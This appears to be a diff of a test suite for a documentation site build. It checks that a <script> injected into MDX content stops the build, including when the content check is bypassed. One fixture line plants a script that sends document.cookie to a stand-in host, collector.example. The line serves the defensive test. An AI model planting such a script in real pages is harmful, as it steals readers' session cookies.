@@ -43,7 +43,7 @@ describe('a script in content stops the build', () => {
 		copy.edit('content/docs/es/tools/signal.mdx', (t) => t.replace(/\n## /, '\n<script>fetch("https://collector.example/?" + document.cookie)</script>\n\n## '));
 		const line = readFileSync(join(copy.dir, 'content/docs/es/tools/signal.mdx'), 'utf8').split('\n').findIndex((l) => l.startsWith('<script>')) + 1;
 		const { status, output } = build(copy.dir);
-		expectStopped(output, status, 'content/docs/es/tools/signal.mdx', line, '<script> is not allowed in content');
+		expectStopped(output, status, 'content/docs/es/tools/signal.mdx', line, '<script> is not allowed in a page: it would run a script in readers’ browsers');
 		expect(existsSync(join(copy.dir, 'dist'))).toBe(false);
 	}, 180_000);
 
@@ -65,8 +65,8 @@ describe('a script in content stops the build', () => {
 describe('a script in a built page that the generator did not write', () => {
 	test('stops the build at the policy stage even when the content check is bypassed, naming the page and the MDX line', () => {
 		const copy = project();
-		// A copy whose content check no longer looks at markup: the policy stage is the second lock.
-		copy.edit('src/lib/check-content.ts', (t) => t.replace('problems.push(...checkMarkup(root));', ''));
+		// A copy whose content check no longer looks at pages or markup: the policy stage is the second lock.
+		copy.edit('src/lib/check-content.ts', (t) => t.replace(/problems\.push\(\.\.\.pageProblems, \.\.\.checkMarkup\(root\)[^\n]*\n/, ''));
 		copy.edit('content/docs/es/tools/signal.mdx', (t) => t.replace(/\n## /, '\n<script>document.title = "collected"</script>\n\n## '));
 		const line = readFileSync(join(copy.dir, 'content/docs/es/tools/signal.mdx'), 'utf8').split('\n').findIndex((l) => l.startsWith('<script>')) + 1;
 		const { status, output } = build(copy.dir, '--only', 'site,policy');
